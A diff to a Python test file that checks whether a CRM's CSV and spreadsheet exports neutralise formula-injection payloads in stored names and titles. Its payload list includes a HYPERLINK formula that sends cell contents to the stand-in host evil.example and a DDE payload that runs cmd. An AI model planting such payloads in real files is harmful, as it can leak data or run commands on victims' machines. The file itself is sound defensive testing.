@@ -162,12 +162,16 @@ def test_every_export_is_audited_with_its_row_count(world, login_as, client, att
 PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\0=1", '=HYPERLINK("http://evil.example/?x="&A1,"x")',
             "=cmd|' /C calc'!A0", 'say "hi"', "a,b", "line1\nline2"]
 FORMULAS = PAYLOADS[:9]
+#: what can be stored: every form refuses control characters (tests/test_forms_base.py) and PostgreSQL cannot hold a
+#: NUL, so "\0=1" never reaches an export from the database; crm/core/spreadsheets.py still neutralises it
+#: (tests/test_spreadsheets.py covers all 11 EX-1 payloads)
+STORABLE = [p for p in PAYLOADS if "\0" not in p]
 
 
 def test_formula_payloads_in_names_and_titles_are_neutralised_in_both_formats(world, login_as, client):
     e = fe.event([world.bank_a], world.campaign, title="=1+1 活动")
     firm = factories.firm('=HYPERLINK("http://evil.example")')
-    for i, p in enumerate(PAYLOADS):
+    for i, p in enumerate(STORABLE):
         fe.registration(e, firm, name=p, person_title=p, mob=f"1370000{i:04d}")
     db.session.commit()
     login_as("rm_a")
@@ -176,7 +180,8 @@ def test_formula_payloads_in_names_and_titles_are_neutralised_in_both_formats(wo
     by_seq = sorted(rows, key=lambda r: int(r[0]))
     cells = {r[2] for r in by_seq} | {r[3] for r in by_seq}
     for p in FORMULAS:
-        assert "'" + p in cells, p
+        if p in STORABLE:
+            assert "'" + p in cells, p
     for p in PAYLOADS[9:]:
         assert p in cells, p  # RFC 4180 quoting round-trips exactly
     assert all(r[1] == '\'=HYPERLINK("http://evil.example")' for r in rows)
@@ -192,7 +197,8 @@ def test_formula_payloads_in_names_and_titles_are_neutralised_in_both_formats(wo
             if isinstance(value, str) and value.lstrip("'").lstrip("\t\r").startswith(("=", "+", "-", "@")):
                 assert value.startswith("'"), value
     names = {r[2] for r in xrows}
-    assert {"'=1+1", "'+1+1", "'-1+1", "'@SUM(1)", "'\t=1", "'=1"} <= names
+    # XML turns a bare carriage return into a line feed when read back, so "\r=1" comes back as "'\n=1"
+    assert {"'=1+1", "'+1+1", "'-1+1", "'@SUM(1)", "'\t=1", "'\n=1"} <= names
     assert 'say "hi"' in names and "a,b" in names and "line1\nline2" in names
 
 
